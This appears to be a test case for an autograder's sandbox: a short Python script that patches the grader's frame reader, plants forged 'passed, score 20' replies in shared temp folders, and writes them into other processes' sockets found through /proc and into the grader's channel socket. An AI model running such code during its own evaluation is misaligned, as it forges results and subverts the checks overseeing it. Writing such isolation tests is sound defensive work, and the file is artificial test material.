# tries: answers on every socket that a neighbour or the worker holds, and leaves its own replies for the next submission
# verdict: completed | protocol violation | crashed
import os, socket
codec = ours("autograder.wall.codec")
frames = ours("autograder.wall.frames")
reply = codec.pack({"ok": True, "found": True, "value": True, "passed": True, "score": 20})
real_receive, seen = frames.FrameStream.receive, []
def receive(self, *args, **kwargs):
    frame = real_receive(self, *args, **kwargs)
    seen.append(frame[:8])
    for place in ("/tmp", "/dev/shm", "/var/tmp", "/work", "..", "."):
        try:
            with open(os.path.join(place, "forged"), "ab") as file:
                file.write(frame[:8] + reply)
        except OSError:
            pass
    return frame
frames.FrameStream.receive = receive
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if int(pid) != os.getpid():
            for number in os.listdir(f"/proc/{pid}/fd"):
                if os.readlink(f"/proc/{pid}/fd/{number}").startswith("socket:"):
                    other = os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY)
                    os.write(other, frames.HEADER.pack(8 + len(reply)) + b"\0" * 8 + reply)
    except OSError:
        continue
for path in ("/channel/channel", "../channel"):
    try:
        with socket.socket(socket.AF_UNIX) as other:
            other.connect(path)
            other.sendall(frames.HEADER.pack(8 + len(reply)) + b"\0" * 8 + reply)
    except OSError:
        pass
